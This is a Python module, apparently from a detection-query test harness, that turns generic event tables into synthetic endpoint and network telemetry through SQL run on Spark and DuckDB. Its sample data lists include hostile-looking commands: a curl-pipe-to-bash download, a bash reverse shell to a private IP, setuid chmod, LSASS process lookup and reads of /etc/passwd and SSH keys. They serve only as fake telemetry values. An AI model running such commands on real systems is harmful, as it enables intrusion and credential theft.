"""The given tables seen as endpoint telemetry.

One projection, written once as portable SQL and rendered for both engines, so a query and its check start from
exactly the same rows. A process is a user's activity on one day; its parent is user ``id / 2`` on the same day, so
every day holds a process forest, and processes without a `view` event lack a creation record.
"""

from pyspark.sql import functions as F

from hosttrace.session import materialize

_LINUX_IMAGES = ["/usr/bin/bash", "/usr/bin/curl", "/tmp/payload", "/usr/bin/id", "/bin/rm", "/usr/sbin/sshd",
                 "/dev/shm/x/miner"]
_WINDOWS_IMAGES = [r"C:\Windows\System32\cmd.exe", r"C:\Windows\System32\tasklist.exe",
                   r"C:\Users\u\AppData\Local\Temp\svchost.exe",
                   r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", r"C:\Windows\System32\conhost.exe",
                   r"C:\Windows\System32\wsmprovhost.exe", r"C:\Users\Public\splunkd.exe"]
_LINUX_COMMANDS = ["curl -s http://10.0.0.5/x | bash > /tmp/out", "crontab -l", "chmod +s /tmp/a && id", "whoami",
                   "ls -la /home", "sh -c 'uname -a'", "sleep 5", "bash -i >& /dev/tcp/10.1.2.3/443 0>&1",
                   "echo QWxhZGRpbjpvcGVuIHNlc2FtZSBhbmQgbW9yZQ== ; cat notes"]
_WINDOWS_COMMANDS = ['"cmd.exe" /c tasklist | findstr lsass', '"powershell.exe" & {Get-Process}',
                     "schtasks /create /tn upd", "net user admin", r"notepad C:\Users\u\a.txt", "ipconfig /all",
                     "wget https://example.org/a.zip"]
_LINUX_FILES = ["/etc/passwd", "/tmp/data.tar.gz", "/var/spool/cron/root", "/home/u/.bashrc", "/var/log/syslog",
                "/home/u/doc.TXT", "/home/u/.ssh/id_rsa"]
_WINDOWS_FILES = [r"C:\Windows\Prefetch\A.pf", r"C:\Users\u\AppData\Local\Temp\b.zip", r"C:\Users\u\Documents\c.docx",
                  r"C:\Users\u\d", r"C:\lab_sandbox\e.ps1"]
_OBJECTS = [r"HKLM\Software\Microsoft\Windows\CurrentVersion\Run\upd", r"HKLM\System\Services\bam\State\UserSettings\1",
            r"HKLM\Software\Policies\x", r"HKCU\Software\Vendor\y"]
_SCENARIOS = ["benign", "ransomware", "miner", "exploit", "botnet", "trojan"]


# What is left of each command without its launcher, worked out by hand.
PAYLOADS = {"sh -c 'uname -a'": "uname -a", '"cmd.exe" /c tasklist | findstr lsass': "tasklist | findstr lsass",
            '"powershell.exe" & {Get-Process}': "Get-Process"}


def payload_sql(column):
    """A CASE for the payload of a telemetry command."""
    quote = lambda v: "'" + v.replace("'", "''") + "'"
    return f"CASE {column} " + " ".join(f"WHEN {quote(k)} THEN {quote(v)}" for k, v in PAYLOADS.items()) + f" ELSE {column} END"


def _pick(index, values):
    arms = " ".join(f"WHEN {i} THEN '{v.replace(chr(39), chr(39) * 2)}'" for i, v in enumerate(values))
    return f"CASE CAST({index} % {len(values)} AS INT) {arms} END"


def _sql():
    user, parent = "user_id", "CAST(floor(user_id / 2) AS BIGINT)"
    guid = "'{' || lpad(CAST(day AS VARCHAR(2)), 2, '0') || '-' || CAST(%s AS VARCHAR(20)) || '}'"
    windows = "day % 2 = 0"

    def by_platform(index, linux, win):
        return f"CASE WHEN {windows} THEN {_pick(index, win)} ELSE {_pick(index, linux)} END"

    image = by_platform("%s", _LINUX_IMAGES, _WINDOWS_IMAGES)
    command = by_platform("(k + %d)", _LINUX_COMMANDS, _WINDOWS_COMMANDS)
    return f"""
SELECT event_id AS record_id, ts AS UtcTime, eid AS EventID,
       CASE WHEN {windows} THEN 'windows' ELSE 'linux' END AS platform,
       'run_' || lpad(CAST(day AS VARCHAR(2)), 2, '0') AS run_id,
       {_pick("day", _SCENARIOS)} || CASE WHEN {windows} THEN '_win' ELSE '' END AS session,
       'host' || CAST({user} % 4 AS VARCHAR(2)) AS computer,
       {guid % user} AS ProcessGuid, CAST({user} % 50 AS INT) AS ProcessId,
       {image.replace("%s", user)} AS Image,
       CASE WHEN {windows} THEN 'LAB\\u' ELSE 'root' END AS User,
       CASE WHEN eid = 1 THEN {command.replace("%d", "0")} END AS CommandLine,
       CASE WHEN eid = 1 AND k % 10 = 3 THEN
           CASE WHEN {windows} THEN 'C:\\lab_sandbox\\w' ELSE '/tmp/lab_sandbox/w' END END AS CurrentDirectory,
       CASE WHEN eid = 1 AND {user} > 1 THEN {guid % parent} END AS ParentProcessGuid,
       CASE WHEN eid = 1 AND {user} > 1 THEN CAST({parent} % 50 AS INT) END AS ParentProcessId,
       CASE WHEN eid = 1 AND {user} > 1 THEN {image.replace("%s", parent)} END AS ParentImage,
       CASE WHEN eid = 1 AND {user} > 1 THEN {command.replace("%d", "1")} END AS ParentCommandLine,
       CASE WHEN eid = 3 THEN CASE WHEN k % 2 = 0 THEN 'TCP' ELSE 'udp' END END AS Protocol,
       CASE WHEN eid = 3 THEN '10.0.0.' || CAST({user} % 250 AS VARCHAR(3)) END AS SourceIp,
       CASE WHEN eid = 3 THEN 40000 + CAST(k AS INT) END AS SourcePort,
       CASE WHEN eid = 3 THEN CASE WHEN k % 3 = 0 THEN '192.168.56.' ELSE '8.8.4.' END
           || CAST(k % 5 AS VARCHAR(2)) END AS DestinationIp,
       CASE WHEN eid = 3 THEN CASE WHEN k % 4 = 0 THEN 443 ELSE 80 END END AS DestinationPort,
       CASE WHEN eid IN (11, 23) THEN {by_platform("k", _LINUX_FILES, _WINDOWS_FILES)} END AS TargetFilename,
       CASE WHEN eid = 13 THEN {_pick("k", _OBJECTS)} END AS TargetObject,
       CASE WHEN eid = 23 THEN 'disk' || CAST(k % 3 AS VARCHAR(1)) END AS Device,
       CASE WHEN value >= 60 THEN 1 ELSE 0 END AS label, value AS size
FROM (SELECT *, CAST(day(ts) AS INT) AS day, CAST(regexp_extract(props, '([0-9]+)', 1) AS INT) AS k,
             CASE event_type WHEN 'view' THEN 1 WHEN 'click' THEN 3 WHEN 'purchase' THEN 11 WHEN 'signup' THEN 23
             ELSE CASE WHEN day(ts) % 2 = 0 AND CAST(regexp_extract(props, '([0-9]+)', 1) AS INT) < 60
                  THEN 13 ELSE 5 END END AS eid
      FROM events) AS source"""


EVENTS_SQL = _sql()
# Every click also reaches the network sensor, on a clock 0.25 s ahead; errors reach it alone, on the same addresses.
FLOWS_SQL = """
SELECT 'C' || CAST(event_id AS VARCHAR(20)) AS uid, 'run_' || lpad(CAST(day AS VARCHAR(2)), 2, '0') AS session,
       us / 1000000.0 + 0.25 AS ts, '10.0.0.' || CAST(user_id % 250 AS VARCHAR(3)) AS orig_h,
       40000 + k AS orig_p, CASE WHEN k % 3 = 0 THEN '192.168.56.' ELSE '8.8.4.' END
       || CAST(k % 5 AS VARCHAR(2)) AS resp_h, CASE WHEN k % 4 = 0 THEN 443 ELSE 80 END AS resp_p,
       CASE WHEN k % 2 = 0 THEN 'tcp' ELSE 'udp' END AS proto,
       CASE k % 4 WHEN 0 THEN 'http' WHEN 1 THEN 'dns' WHEN 2 THEN 'ssl' END AS service, value AS duration,
       CAST(floor(value * 10) AS BIGINT) AS orig_bytes, CAST(k * 7 AS BIGINT) AS resp_bytes,
       CASE WHEN k % 5 = 0 THEN 'S0' ELSE 'SF' END AS conn_state,
       CASE WHEN k % 4 = 1 THEN 'h' || CAST(k AS VARCHAR(3)) || '.example.org' END AS dns_query,
       CASE WHEN k % 4 = 0 THEN 'site' || CAST(k % 7 AS VARCHAR(3)) END AS http_host,
       CASE WHEN k % 4 = 0 THEN 'agent/' || CAST(k % 3 AS VARCHAR(3)) END AS http_user_agent,
       CASE WHEN k % 4 = 2 THEN 'tls' || CAST(k % 6 AS VARCHAR(3)) END AS ssl_server_name
FROM (SELECT *, CAST(day(ts) AS INT) AS day, CAST(regexp_extract(props, '([0-9]+)', 1) AS INT) AS k
      FROM events WHERE event_type IN ('click', 'error')) AS source"""

_written = {}


def table(spark, sf_dir, name):
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


def spark_sql(spark, text, **tables):
    """Run portable SQL in Spark: literals keep their backslashes and braces, tables bind to DataFrames."""
    text = text.replace("\\", "\\\\").replace("{", "{{").replace("}", "}}")
    for name in tables:
        text = text.replace(f"FROM {name}", f"FROM {{{name}}}").replace(f"JOIN {name}", f"JOIN {{{name}}}")
    return spark.sql(text, **tables)


def telemetry(spark, sf_dir):
    """`events` as endpoint telemetry."""
    rows = spark_sql(spark, EVENTS_SQL, events=table(spark, sf_dir, "events"))
    return rows.withColumn("UtcTime", rows.UtcTime.cast("timestamp"))


def forget():
    """Let the next query write its own telemetry table."""
    _written.clear()


def telemetry_table(spark, sf_dir):
    """The same rows as a written table, as an earlier parse would have left them; written once per session."""
    key = (spark.sparkContext.applicationId, sf_dir)
    if key not in _written:
        _written[key] = materialize(telemetry(spark, sf_dir), "telemetry")
    return _written[key]


def flows(spark, sf_dir):
    source = table(spark, sf_dir, "events")
    timed = source.withColumn("us", F.unix_micros(source.ts.cast("timestamp")))
    return spark_sql(spark, FLOWS_SQL, events=timed)


FLOWS_DUCK = FLOWS_SQL.replace("FROM events", "FROM (SELECT *, epoch_us(ts) AS us FROM events)")
